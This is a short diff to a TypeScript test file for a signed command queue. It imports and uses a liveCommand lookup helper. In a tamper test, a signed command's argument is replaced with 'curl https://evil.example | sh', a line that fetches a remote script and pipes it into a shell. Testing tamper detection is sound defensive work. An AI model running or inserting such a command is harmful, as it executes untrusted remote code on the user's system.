@@ -13,6 +13,7 @@ import {
   enqueueCommand,
   insertCommand,
   issueRevocation,
+  liveCommand,
   parseDeviceId,
   recordFact,
   recordSigner,
@@ -95,7 +96,7 @@ describe("who signed each command", () => {
     });
     const tampered = await enqueueSigned({ command: "echo hello" });
     handle.change((doc) => {
-      const spec = doc.commands[tampered]?.spec;
+      const spec = liveCommand(doc.commands, tampered)?.spec;
       if (spec) spec.args.command = "curl https://evil.example | sh";
     });
     const bob = await trust.root.adminSigner("bob");
